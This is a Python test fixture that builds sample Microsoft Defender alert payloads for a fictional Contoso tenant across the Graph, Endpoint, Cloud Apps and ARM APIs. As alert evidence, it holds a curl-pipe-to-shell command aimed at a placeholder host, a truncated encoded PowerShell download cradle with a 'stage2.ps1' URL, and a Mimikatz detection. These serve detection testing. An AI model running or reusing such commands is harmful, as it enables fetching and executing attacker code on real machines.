"""Realistic alert payloads of every Defender API (Graph, MDE, MDCA, ARM) for demos and tests."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

from riposte.sandbox.clock import graph_time

TENANT_ID = "4b2462a4-bbee-495a-a0e1-f23ae524cc9c"
SUBSCRIPTION_ID = "9c6a7c7e-5d5b-4e0a-8b1f-3f2f1c0d2e11"
PORTAL = "https://security.microsoft.com"
APIM_OPERATION = (
    f"/subscriptions/{SUBSCRIPTION_ID}/resourceGroups/rg-api/providers/"
    "Microsoft.ApiManagement/service/contoso-apim/apis/orders/operations/get-order"
)
ATTACKER_IP = "185.220.101.34"
USER_ACCOUNT = {
    "accountName": "jdoe",
    "domainName": "CONTOSO",
    "userSid": "S-1-5-21-1340283766-2553427312-3419236532-1107",
    "azureAdUserId": "8b1b4a5c-2f0e-4a7e-9c1d-6e2f3a4b5c6d",
    "userPrincipalName": "jdoe@contoso.com",
    "displayName": "Jane Doe",
}


def _evidence(kind: str, at: str, verdict: str, roles: list[str], **fields: Any) -> dict[str, Any]:
    return {
        "@odata.type": f"#microsoft.graph.security.{kind}",
        "createdDateTime": at,
        "verdict": verdict,
        "remediationStatus": "none",
        "remediationStatusDetails": None,
        "roles": roles,
        "detailedRoles": [],
        "tags": [],
        **fields,
    }


def _alert(
    alert_id: str,
    incident_id: str,
    created: datetime,
    *,
    provider_alert_id: str | None = None,
    **fields: Any,
) -> dict[str, Any]:
    created_at = graph_time(created)
    return {
        "@odata.type": "#microsoft.graph.security.alert",
        "id": alert_id,
        "providerAlertId": provider_alert_id or alert_id,
        "incidentId": incident_id,
        "status": "new",
        "classification": None,
        "determination": None,
        "assignedTo": None,
        "tenantId": TENANT_ID,
        "alertWebUrl": f"{PORTAL}/alerts/{alert_id}?tid={TENANT_ID}",
        "incidentWebUrl": f"{PORTAL}/incidents/{incident_id}?tid={TENANT_ID}",
        "actorDisplayName": None,
        "threatDisplayName": None,
        "threatFamilyName": None,
        "alertPolicyId": None,
        "createdDateTime": created_at,
        "lastUpdateDateTime": graph_time(created + timedelta(seconds=41, microseconds=233300)),
        "resolvedDateTime": None,
        "firstActivityDateTime": graph_time(created - timedelta(minutes=3, seconds=12)),
        "lastActivityDateTime": graph_time(created - timedelta(seconds=55)),
        "comments": [],
        "customDetails": None,
        **fields,
    }


def sample_graph_alerts(now: datetime) -> list[dict[str, Any]]:
    """Alerts as Graph returns them, created a few minutes before ``now``."""
    return [
        _mde_powershell(now - timedelta(minutes=9)),
        _api_suspicious_ip(now - timedelta(minutes=7)),
        _api_parameter_enumeration(now - timedelta(minutes=5)),
        _identity_unfamiliar_sign_in(now - timedelta(minutes=3)),
    ]


def _mde_powershell(created: datetime) -> dict[str, Any]:
    at = graph_time(created)
    device_id = "7beae8a5ab9bd2f1b2cbd3b5a8f0e3c8d1f2a4b6"
    powershell = {
        "sha1": "6cbce4a295c163791b60fc23d285e6d84f28ee4c",
        "sha256": "de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c",
        "filePath": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
        "fileName": "powershell.exe",
        "fileSize": 452608,
        "filePublisher": "Microsoft Corporation",
        "signer": "Microsoft Windows",
        "issuer": "Microsoft Windows Production PCA 2011",
    }
    return _alert(
        "da637578995287051192_756343937",
        "924518",
        created,
        severity="high",
        serviceSource="microsoftDefenderForEndpoint",
        detectionSource="microsoftDefenderForEndpoint",
        productName="Microsoft Defender for Endpoint",
        detectorId="7bbfbb29-d3ac-42c4-8b5c-f2a4e4d7c1a9",
        title="Suspicious PowerShell command line",
        description=(
            "A suspicious PowerShell activity was observed on the machine. This behavior may"
            " indicate that PowerShell was used during installation, exploration, or other"
            " malicious activities."
        ),
        recommendedActions=(
            "1. Examine the PowerShell command line to understand what commands were executed."
            " 2. Identify the parent process. 3. Check the device for other malicious activity."
        ),
        category="Execution",
        mitreTechniques=["T1059.001", "T1027"],
        systemTags=[],
        additionalData={"MicrosoftDefenderForEndpoint.Category": "Execution"},
        evidence=[
            _evidence(
                "deviceEvidence",
                at,
                "suspicious",
                ["compromised"],
                firstSeenDateTime=graph_time(created - timedelta(days=212)),
                mdeDeviceId=device_id,
                azureAdDeviceId="c6f5d6a1-3b4e-4c2d-9e8f-1a2b3c4d5e6f",
                deviceDnsName="ws-fin-042.contoso.com",
                hostName="ws-fin-042",
                ntDomain="CONTOSO",
                dnsDomain="contoso.com",
                osPlatform="Windows11",
                osBuild=22631,
                version="23H2",
                healthStatus="active",
                riskScore="high",
                rbacGroupId=12,
                rbacGroupName="Finance workstations",
                onboardingStatus="onboarded",
                defenderAvStatus="updated",
                lastIpAddress="10.20.4.17",
                lastExternalIpAddress="203.0.113.24",
                ipInterfaces=["10.20.4.17"],
                loggedOnUsers=[{"accountName": "jdoe", "domainName": "CONTOSO"}],
                vmMetadata=None,
            ),
            _evidence(
                "processEvidence",
                at,
                "suspicious",
                [],
                processId=8412,
                parentProcessId=5320,
                processCommandLine=(
                    "powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand"
                    " SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBi"
                    "AEMAbABpAGUAbgB0ACkA"
                ),
                processCreationDateTime=graph_time(created - timedelta(minutes=3, seconds=12)),
                parentProcessCreationDateTime=graph_time(created - timedelta(minutes=4)),
                detectionStatus="detected",
                mdeDeviceId=device_id,
                imageFile=powershell,
                parentProcessImageFile={
                    "sha1": None,
                    "sha256": None,
                    "filePath": "C:\\Program Files\\Microsoft Office\\root\\Office16",
                    "fileName": "WINWORD.EXE",
                    "fileSize": None,
                    "filePublisher": None,
                    "signer": None,
                    "issuer": None,
                },
                userAccount=USER_ACCOUNT,
            ),
            _evidence(
                "fileEvidence",
                at,
                "suspicious",
                [],
                detectionStatus="detected",
                mdeDeviceId=device_id,
                fileDetails={
                    "sha1": "3395856ce81f2b7382dee72602f798b642f14140",
                    "sha256": "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
                    "filePath": "C:\\Users\\jdoe\\AppData\\Local\\Temp",
                    "fileName": "invoice_0424.ps1",
                    "fileSize": 2843,
                    "filePublisher": None,
                    "signer": None,
                    "issuer": None,
                },
            ),
            _evidence("userEvidence", at, "unknown", [], userAccount=USER_ACCOUNT),
        ],
    )


def _api_alert(
    created: datetime,
    *,
    alert_id: str,
    provider_alert_id: str,
    incident_id: str,
    detector_id: str,
    title: str,
    description: str,
    severity: str,
    category: str,
    mitre: list[str],
    extra: dict[str, Any],
) -> dict[str, Any]:
    at = graph_time(created)
    return _alert(
        alert_id,
        incident_id,
        created,
        provider_alert_id=provider_alert_id,
        severity=severity,
        serviceSource="microsoftDefenderForCloud",
        detectionSource="microsoftDefenderForApiManagement",
        productName="Microsoft Defender for Cloud",
        detectorId=detector_id,
        title=title,
        description=description,
        recommendedActions=(
            "Review the API traffic from the source IP in API Management, block the IP if it"
            " is not expected, and rotate the keys of the affected subscription."
        ),
        category=category,
        mitreTechniques=mitre,
        systemTags=[],
        additionalData={
            "AlertUri": (
                "https://portal.azure.com/#blade/Microsoft_Azure_Security_AzureDefenderForData/"
                f"AlertBlade/alertId/{provider_alert_id}/subscriptionId/{SUBSCRIPTION_ID}"
            ),
            "API Endpoint": "GET /orders/{orderId}",
            "API Management service": "contoso-apim",
            "Resource group": "rg-api",
            "Source IP": ATTACKER_IP,
            **extra,
        },
        evidence=[
            _evidence(
                "ipEvidence",
                at,
                "suspicious",
                ["attacker"],
                ipAddress=ATTACKER_IP,
                countryLetterCode="DE",
                location={"countryName": "Germany", "city": None, "latitude": None},
            ),
            _evidence(
                "azureResourceEvidence",
                at,
                "unknown",
                ["compromised"],
                resourceId=APIM_OPERATION,
                resourceName="get-order",
                resourceType="Microsoft.ApiManagement/service/apis/operations",
            ),
        ],
    )


def _api_suspicious_ip(created: datetime) -> dict[str, Any]:
    return _api_alert(
        created,
        alert_id="dc2517458936573611_3f1e4a5b-6c7d-4e8f-9a0b-1c2d3e4f5a6b",
        provider_alert_id="2517458936573611_3f1e4a5b-6c7d-4e8f-9a0b-1c2d3e4f5a6b",
        incident_id="924531",
        detector_id="API_AccessFromSuspiciousIP",
        title="API Endpoint access from suspicious IP",
        description=(
            "An API hosted in Azure API Management was accessed from an IP address that"
            " Microsoft Threat Intelligence has identified as suspicious. The IP address was"
            " seen accessing GET /orders/{orderId}."
        ),
        severity="high",
        category="PreAttack",
        mitre=["T1595"],
        extra={"Threat intelligence": "Anonymizing proxy / known scanner"},
    )


def _api_parameter_enumeration(created: datetime) -> dict[str, Any]:
    return _api_alert(
        created,
        alert_id="dc2517458926571408_8a7b6c5d-4e3f-4a2b-8c1d-0e9f8a7b6c5d",
        provider_alert_id="2517458926571408_8a7b6c5d-4e3f-4a2b-8c1d-0e9f8a7b6c5d",
        incident_id="924532",
        detector_id="API_ParameterEnumeration",
        title="Parameter enumeration on an API endpoint",
        description=(
            "A single IP address enumerated the orderId parameter of GET /orders/{orderId}:"
            " 1,284 requests with distinct values in 10 minutes, 97% of them answered 404."
        ),
        severity="medium",
        category="InitialAccess",
        mitre=["T1190"],
        extra={"Enumerated parameter": "orderId", "Distinct values": "1284"},
    )


def _identity_unfamiliar_sign_in(created: datetime) -> dict[str, Any]:
    at = graph_time(created)
    return _alert(
        "ad7b1f54c7c1e9a2d7a5e0f4b8c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4",
        "924540",
        created,
        severity="medium",
        serviceSource="azureAdIdentityProtection",
        detectionSource="azureAdIdentityProtection",
        productName="Microsoft Entra ID Protection",
        detectorId="UnfamiliarLocation",
        title="Unfamiliar sign-in properties",
        description=(
            "The user signed in with properties (IP address, ASN, location, browser) that are"
            " unfamiliar for this user, from an IP address associated with anonymizers."
        ),
        recommendedActions=(
            "Confirm the sign-in with the user; if it was not them, revoke their sessions,"
            " reset their password and require MFA re-registration."
        ),
        category="InitialAccess",
        mitreTechniques=["T1078"],
        systemTags=[],
        additionalData={"RiskLevel": "medium", "RiskEventType": "unfamiliarFeatures"},
        evidence=[
            _evidence("userEvidence", at, "suspicious", ["compromised"], userAccount=USER_ACCOUNT),
            _evidence(
                "ipEvidence",
                at,
                "suspicious",
                ["attacker"],
                ipAddress=ATTACKER_IP,
                countryLetterCode="DE",
            ),
        ],
    )


# --- Defender for Endpoint ---------------------------------------------------------------------

MDE_DEVICE_ID = "7beae8a5ab9bd2f1b2cbd3b5a8f0e3c8d1f2a4b6"
MDE_SERVER_ID = "0f3c9e1d7a2b4c5d6e7f8091a2b3c4d5e6f70812"


def _mde_evidence(at: str, entity_type: str, **fields: Any) -> dict[str, Any]:
    # MDE evidence is flat: every entity carries every column, null where it does not apply.
    columns = (
        "sha1",
        "sha256",
        "fileName",
        "filePath",
        "processId",
        "processCommandLine",
        "processCreationTime",
        "parentProcessId",
        "parentProcessCreationTime",
        "parentProcessFileName",
        "parentProcessFilePath",
        "ipAddress",
        "url",
        "registryKey",
        "registryHive",
        "registryValueType",
        "registryValue",
        "accountName",
        "domainName",
        "userSid",
        "aadUserId",
        "userPrincipalName",
        "detectionStatus",
    )
    evidence: dict[str, Any] = {"entityType": entity_type, "evidenceCreationTime": at}
    evidence.update(dict.fromkeys(columns))
    evidence.update(fields)
    return evidence


def _mde_user(at: str) -> dict[str, Any]:
    return _mde_evidence(
        at,
        "User",
        accountName=USER_ACCOUNT["accountName"],
        domainName=USER_ACCOUNT["domainName"],
        userSid=USER_ACCOUNT["userSid"],
        aadUserId=USER_ACCOUNT["azureAdUserId"],
        userPrincipalName=USER_ACCOUNT["userPrincipalName"],
    )


def _mde_alert(alert_id: str, created: datetime, **fields: Any) -> dict[str, Any]:
    return {
        "id": alert_id,
        "status": "New",
        "classification": None,
        "determination": None,
        "assignedTo": None,
        "investigationState": "Running",
        "alertCreationTime": graph_time(created),
        "firstEventTime": graph_time(created - timedelta(minutes=3, seconds=12)),
        "lastEventTime": graph_time(created - timedelta(seconds=55)),
        "lastUpdateTime": graph_time(created + timedelta(seconds=38, microseconds=420000)),
        "resolvedTime": None,
        "aadTenantId": TENANT_ID,
        "threatName": None,
        "threatFamilyName": None,
        "loggedOnUsers": [],
        "comments": [],
        **fields,
    }


def sample_endpoint_alerts(now: datetime) -> list[dict[str, Any]]:
    """Defender for Endpoint ``/api/alerts`` payloads (with ``$expand=evidence``) before ``now``.

    PascalCase enums, numeric incident and investigation ids, flat evidence; the last one has
    the string ``"null"`` category and the missing relations that older alerts still show.
    """
    powershell_at = now - timedelta(minutes=8)
    mimikatz_at = now - timedelta(minutes=6)
    legacy_at = now - timedelta(minutes=4)
    ps, mk, lg = graph_time(powershell_at), graph_time(mimikatz_at), graph_time(legacy_at)
    return [
        _mde_alert(
            "da638512345678901234_-1837264510",
            powershell_at,
            incidentId=924518,
            investigationId=301122,
            severity="High",
            detectionSource="WindowsDefenderAtp",
            detectorId="7bbfbb29-d3ac-42c4-8b5c-f2a4e4d7c1a9",
            category="Execution",
            title="Suspicious PowerShell command line",
            description=(
                "A suspicious PowerShell activity was observed on the machine. This behavior"
                " may indicate that PowerShell was used during installation, exploration, or"
                " other malicious activities."
            ),
            machineId=MDE_DEVICE_ID,
            computerDnsName="ws-fin-042.contoso.com",
            rbacGroupName="Finance workstations",
            mitreTechniques=["T1059.001", "T1027"],
            relatedUser={"userName": "jdoe", "domainName": "CONTOSO"},
            loggedOnUsers=[{"accountName": "jdoe", "domainName": "CONTOSO"}],
            evidence=[
                _mde_user(ps),
                _mde_evidence(
                    ps,
                    "Process",
                    sha1="6cbce4a295c163791b60fc23d285e6d84f28ee4c",
                    sha256="de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c",
                    fileName="powershell.exe",
                    filePath="C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
                    processId=8412,
                    processCommandLine=(
                        "powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand"
                        " SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBi"
                    ),
                    processCreationTime=graph_time(powershell_at - timedelta(minutes=3)),
                    parentProcessId=5320,
                    parentProcessCreationTime=graph_time(powershell_at - timedelta(minutes=4)),
                    parentProcessFileName="WINWORD.EXE",
                    parentProcessFilePath="C:\\Program Files\\Microsoft Office\\root\\Office16",
                    accountName="jdoe",
                    domainName="CONTOSO",
                    userSid=USER_ACCOUNT["userSid"],
                    detectionStatus="Detected",
                ),
                _mde_evidence(
                    ps,
                    "File",
                    sha1="3395856ce81f2b7382dee72602f798b642f14140",
                    sha256="275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
                    fileName="invoice_0424.ps1",
                    filePath="C:\\Users\\jdoe\\AppData\\Local\\Temp",
                    detectionStatus="Detected",
                ),
                _mde_evidence(ps, "Ip", ipAddress="203.0.113.24"),
                _mde_evidence(ps, "Url", url="http://203.0.113.24/payload/stage2.ps1"),
            ],
        ),
        _mde_alert(
            "da638512345701234567_1048576123",
            mimikatz_at,
            incidentId=924520,
            investigationId=301131,
            severity="High",
            detectionSource="WindowsDefenderAv",
            detectorId="b5b9b1c2-6e4a-4c0d-9f4e-2a1b3c4d5e6f",
            category="CredentialAccess",
            title="'Mimikatz' credential theft tool was detected",
            description=(
                "Readily available tools, such as hacking programs, can be used by unauthorized"
                " individuals to spy on users. Mimikatz dumps credentials from memory."
            ),
            threatName="HackTool:Win64/Mikatz!dha",
            threatFamilyName="Mimikatz",
            machineId=MDE_SERVER_ID,
            computerDnsName="srv-app-07.contoso.com",
            rbacGroupName="Servers",
            mitreTechniques=["T1003.001"],
            relatedUser={"userName": "svc-backup", "domainName": "CONTOSO"},
            loggedOnUsers=[{"accountName": "svc-backup", "domainName": "CONTOSO"}],
            evidence=[
                _mde_evidence(
                    mk,
                    "File",
                    sha1="d241df7b9d2ec0b8194751cd5ce153e27cc40fa4",
                    sha256="31eb1de7e840a342fd468e558e5ab627bcb4c542a8fe01aec4d5ba01d539a0fc",
                    fileName="mimikatz.exe",
                    filePath="C:\\ProgramData\\tmp",
                    detectionStatus="Prevented",
                ),
                _mde_evidence(
                    mk,
                    "User",
                    accountName="svc-backup",
                    domainName="CONTOSO",
                    userSid="S-1-5-21-1340283766-2553427312-3419236532-2210",
                ),
            ],
        ),
        _mde_alert(
            "da638512345759876543_2012345678",
            legacy_at,
            incidentId=924522,
            investigationId=None,
            severity="Informational",
            detectionSource="CustomerTI",
            detectorId="360fdb3b-18a9-471b-9ad0-ad80a4cbcb00",
            category="null",
            investigationState="UnsupportedAlertType",
            title="Connection to a custom network indicator",
            description="A connection to a domain in the organization's indicator list was seen.",
            machineId=MDE_DEVICE_ID,
            computerDnsName="ws-fin-042.contoso.com",
            rbacGroupName=None,
            mitreTechniques=[],
            relatedUser=None,
            evidence=[_mde_evidence(lg, "Url", url="http://login-contoso.example.net/")],
        ),
    ]


# --- Defender for Cloud Apps -------------------------------------------------------------------

MDCA_PORTAL = "https://contoso.us3.portal.cloudappsecurity.com"
OFFICE_365 = 11161
EXCHANGE_ONLINE = 20893


def epoch_ms(moment: datetime) -> int:
    return int(moment.astimezone(UTC).timestamp() * 1000)


def _mdca_account() -> dict[str, Any]:
    return {
        "id": '{"id":"8b1b4a5c-2f0e-4a7e-9c1d-6e2f3a4b5c6d","saas":11161,"inst":0}',
        "saas": OFFICE_365,
        "inst": 0,
        "label": "Jane Doe",
        "type": "account",
        "pa": USER_ACCOUNT["userPrincipalName"],
        "entityRole": "Related",
    }


def _mdca_alert(alert_id: str, id_value: int, raised: datetime, **fields: Any) -> dict[str, Any]:
    return {
        "_id": alert_id,
        "idValue": id_value,
        "contextId": TENANT_ID,
        "timestamp": epoch_ms(raised),
        "statusValue": 0,
        "resolutionStatusValue": 0,
        "isSystemAlert": False,
        "isPreview": False,
        "isMarkdown": False,
        "handledByUser": None,
        "resolveTime": None,
        "comment": None,
        "evidence": [],
        "URL": f"{MDCA_PORTAL}/#/alerts/{alert_id}",
        **fields,
    }


def sample_cloud_apps_alerts(now: datetime) -> list[dict[str, Any]]:
    """Defender for Cloud Apps ``/api/v1/alerts/`` payloads raised a few minutes before ``now``.

    String ``_id``, epoch-millisecond ``timestamp``, numeric codes, typed ``entities``; the
    last one carries the top-level ``policy`` object some tenants send.
    """
    travel_rule = "5f3c2a1b0e9d8c7b6a594837"
    return [
        _mdca_alert(
            "6641a2b3c4d5e6f708192a3b",
            2291,
            now - timedelta(minutes=7),
            title="Impossible travel activity",
            description=(
                "The user <b>Jane Doe</b> performed activities from <b>Lisbon, PT</b> and"
                f" <b>Frankfurt, DE</b> ({ATTACKER_IP}) within 12 minutes."
            ),
            severityValue=1,
            stories=[0],
            intent=[1, 3],
            threatScore=48,
            entities=[
                _mdca_account(),
                {"id": OFFICE_365, "saas": OFFICE_365, "label": "Office 365", "type": "service"},
                {
                    "id": travel_rule,
                    "label": "Impossible travel",
                    "policyType": "ANOMALY_DETECTION",
                    "type": "policyRule",
                },
                {"id": "193.136.12.4", "label": "193.136.12.4", "type": "ip"},
                {"id": ATTACKER_IP, "label": ATTACKER_IP, "type": "ip", "entityRole": "Source"},
            ],
        ),
        _mdca_alert(
            "6641a2b3c4d5e6f708192a4c",
            2292,
            now - timedelta(minutes=5),
            title="Activity from a Tor IP address",
            description=(
                f"The user Jane Doe signed in to Microsoft Exchange Online from {ATTACKER_IP},"
                " an IP address identified as a Tor exit node."
            ),
            severityValue=2,
            stories=[0],
            intent=[1],
            threatScore=81,
            entities=[
                _mdca_account(),
                {
                    "id": EXCHANGE_ONLINE,
                    "saas": EXCHANGE_ONLINE,
                    "label": "Microsoft Exchange Online",
                    "type": "service",
                },
                {"id": ATTACKER_IP, "label": ATTACKER_IP, "type": "ip", "entityRole": "Source"},
            ],
        ),
        _mdca_alert(
            "6641a2b3c4d5e6f708192a5d",
            2293,
            now - timedelta(minutes=2),
            title="Mass download by a single user",
            description=(
                "Jane Doe downloaded 1,147 files from SharePoint Online in 4 minutes, far above"
                " the usual activity of this user."
            ),
            severityValue=1,
            stories=[0],
            intent=[10],
            threatScore=None,
            entities=[
                _mdca_account(),
                {
                    "id": 20892,
                    "saas": 20892,
                    "label": "Microsoft SharePoint Online",
                    "type": "service",
                },
                {
                    "id": "invoice_archive_2024.zip",
                    "label": "invoice_archive_2024.zip",
                    "type": "file",
                },
            ],
            policy={
                "id": "5f3c2a1b0e9d8c7b6a594899",
                "label": "Mass download by a single user",
                "policyType": "ANOMALY_DETECTION",
                "type": "policyRule",
            },
        ),
    ]


# --- Defender for Cloud (ARM) --------------------------------------------------------------------

ASC_LOCATION = "westeurope"
APIM_SERVICE = (
    f"/subscriptions/{SUBSCRIPTION_ID}/resourceGroups/rg-api/providers/"
    "Microsoft.ApiManagement/service/contoso-apim"
)


def arm_alert_id(name: str, subscription: str = SUBSCRIPTION_ID, group: str = "rg-api") -> str:
    return (
        f"/subscriptions/{subscription}/resourceGroups/{group}/providers/Microsoft.Security/"
        f"locations/{ASC_LOCATION}/alerts/{name}"
    )


def _defender_for_apis_alert(
    generated: datetime,
    *,
    name: str,
    alert_type: str,
    display_name: str,
    description: str,
    severity: str,
    intent: str,
    techniques: list[str],
    operation: str,
    client_ip: str,
    extra: dict[str, str],
) -> dict[str, Any]:
    operation_id = f"{APIM_SERVICE}/apis/orders/operations/{operation}"
    return {
        "id": arm_alert_id(name),
        "name": name,
        "type": "Microsoft.Security/Locations/alerts",
        "properties": {
            "version": "2022-01-01.0",
            "alertType": alert_type,
            "systemAlertId": name,
            "productComponentName": "Apis",
            "alertDisplayName": display_name,
            "description": description,
            "severity": severity,
            "intent": intent,
            "startTimeUtc": graph_time(generated - timedelta(minutes=14)),
            "endTimeUtc": graph_time(generated - timedelta(minutes=4)),
            "resourceIdentifiers": [
                {
                    "$id": f"{ASC_LOCATION}_1",
                    "azureResourceId": operation_id,
                    "type": "AzureResource",
                    "azureResourceTenantId": TENANT_ID,
                },
                {
                    "$id": f"{ASC_LOCATION}_2",
                    "aadTenantId": TENANT_ID,
                    "type": "AAD",
                },
            ],
            "compromisedEntity": "contoso-apim",
            "remediationSteps": [
                "Review the API traffic from the client IP in API Management analytics.",
                "If the traffic is not expected, block the IP with an ip-filter policy.",
                "Rotate the subscription keys used by the calls.",
            ],
            "vendorName": "Microsoft",
            "status": "Active",
            "extendedLinks": [],
            "alertUri": (
                "https://portal.azure.com/#blade/Microsoft_Azure_Security_AzureDefenderForData/"
                f"AlertBlade/alertId/{name}/subscriptionId/{SUBSCRIPTION_ID}/resourceGroup/rg-api"
                f"/referencedFrom/alertDeepLink/location/{ASC_LOCATION}"
            ),
            "timeGeneratedUtc": graph_time(generated),
            "productName": "Microsoft Defender for Cloud",
            "processingEndTimeUtc": graph_time(generated + timedelta(seconds=12, microseconds=8)),
            "entities": [
                {
                    "$id": f"{ASC_LOCATION}_3",
                    "address": client_ip,
                    "location": {"countryCode": "DE", "countryName": "Germany", "asn": 208294},
                    "type": "ip",
                },
                {
                    "$id": f"{ASC_LOCATION}_4",
                    "resourceId": operation_id,
                    "resourceType": "API Management operation",
                    "resourceName": operation,
                    "type": "azure-resource",
                },
            ],
            "isIncident": False,
            "correlationKey": f"{alert_type}|contoso-apim|{client_ip}",
            "extendedProperties": {
                "API Management service": "contoso-apim",
                "API": "orders",
                "API operation": operation,
                "API Management operation resource": operation_id,
                "Operation": "GET /orders/{orderId}",
                "Client IP address": client_ip,
                "resourceType": "API Management",
                "killChainIntent": intent,
                **extra,
            },
            "techniques": techniques,
            "subTechniques": [],
            "supportingEvidence": None,
        },
    }


def sample_defender_cloud_alerts(now: datetime) -> list[dict[str, Any]]:
    """Defender for Cloud security alerts (ARM, api-version 2022-01-01) raised before ``now``.

    Three are Defender for APIs detections on an API Management operation, with the client IP
    in ``extendedProperties``; the last is a Defender for Servers alert on a VM.
    """
    vm = (
        f"/subscriptions/{SUBSCRIPTION_ID}/resourceGroups/rg-app/providers/"
        "Microsoft.Compute/virtualMachines/vm-app-01"
    )
    server_at = now - timedelta(minutes=3)
    server_name = "2517458911111111_7c6b5a49-3827-4160-9f8e-7d6c5b4a3928"
    return [
        _defender_for_apis_alert(
            now - timedelta(minutes=9),
            name="2517458936573611_3f1e4a5b-6c7d-4e8f-9a0b-1c2d3e4f5a6c",
            alert_type="API_AccessFromSuspiciousIP",
            display_name="API Endpoint access from suspicious IP",
            description=(
                "An API hosted in Azure API Management was accessed from an IP address that"
                " Microsoft Threat Intelligence has identified as suspicious."
            ),
            severity="High",
            intent="PreAttack",
            techniques=["T1595"],
            operation="get-order",
            client_ip=ATTACKER_IP,
            extra={"Threat intelligence": "Anonymizing proxy / known scanner"},
        ),
        _defender_for_apis_alert(
            now - timedelta(minutes=7),
            name="2517458926571408_8a7b6c5d-4e3f-4a2b-8c1d-0e9f8a7b6c5e",
            alert_type="API_ParameterEnumeration",
            display_name="Parameter enumeration on an API endpoint",
            description=(
                "A single IP address enumerated the orderId parameter of GET /orders/{orderId}:"
                " 1,284 requests with distinct values in 10 minutes."
            ),
            severity="Medium",
            intent="InitialAccess",
            techniques=["T1190"],
            operation="get-order",
            client_ip=ATTACKER_IP,
            extra={"Enumerated parameter": "orderId", "Distinct values": "1284"},
        ),
        _defender_for_apis_alert(
            now - timedelta(minutes=5),
            name="2517458916570001_1b2c3d4e-5f60-4718-8293-a4b5c6d7e8f9",
            alert_type="API_AccessFromTorExitNode",
            display_name="Access from a Tor exit node to an API endpoint",
            description="An API endpoint was called from a known Tor exit node.",
            severity="Medium",
            intent="PreAttack",
            techniques=["T1090.003"],
            operation="list-orders",
            client_ip="185.220.100.252",
            extra={},
        ),
        {
            "id": arm_alert_id(server_name, group="rg-app"),
            "name": server_name,
            "type": "Microsoft.Security/Locations/alerts",
            "properties": {
                "version": "2022-01-01.0",
                "alertType": "VM_SuspiciousCommandLineExecution",
                "systemAlertId": server_name,
                "productComponentName": "Servers",
                "alertDisplayName": "Suspicious command line execution",
                "description": "A process ran a command line that downloads and runs a script.",
                "severity": "Medium",
                "intent": "Execution",
                "startTimeUtc": graph_time(server_at - timedelta(minutes=2)),
                "endTimeUtc": graph_time(server_at - timedelta(minutes=2)),
                "resourceIdentifiers": [
                    {"$id": f"{ASC_LOCATION}_1", "azureResourceId": vm, "type": "AzureResource"}
                ],
                "compromisedEntity": "vm-app-01",
                "remediationSteps": ["Review the command line and the account that ran it."],
                "vendorName": "Microsoft",
                "status": "Active",
                "extendedLinks": [],
                "alertUri": (
                    "https://portal.azure.com/#blade/Microsoft_Azure_Security/AlertBlade/"
                    f"alertId/{server_name}/subscriptionId/{SUBSCRIPTION_ID}"
                ),
                "timeGeneratedUtc": graph_time(server_at),
                "productName": "Microsoft Defender for Cloud",
                "processingEndTimeUtc": graph_time(server_at + timedelta(seconds=30)),
                "entities": [
                    {"$id": f"{ASC_LOCATION}_2", "hostName": "vm-app-01", "type": "host"},
                    {
                        "$id": f"{ASC_LOCATION}_3",
                        "commandLine": "bash -c 'curl -s http://203.0.113.24/x.sh | sh'",
                        "type": "process",
                    },
                ],
                "isIncident": False,
                "correlationKey": "VM_SuspiciousCommandLineExecution|vm-app-01",
                "extendedProperties": {"resourceType": "Virtual Machine"},
                "techniques": ["T1059.004"],
                "subTechniques": [],
                "supportingEvidence": None,
            },
        },
    ]


def sample_alerts_by_source(now: datetime) -> dict[str, list[dict[str, Any]]]:
    """Every sample, by source name as the parsers and `source_client` spell it."""
    return {
        "graph": sample_graph_alerts(now),
        "defender_endpoint": sample_endpoint_alerts(now),
        "cloud_apps": sample_cloud_apps_alerts(now),
        "defender_cloud": sample_defender_cloud_alerts(now),
    }
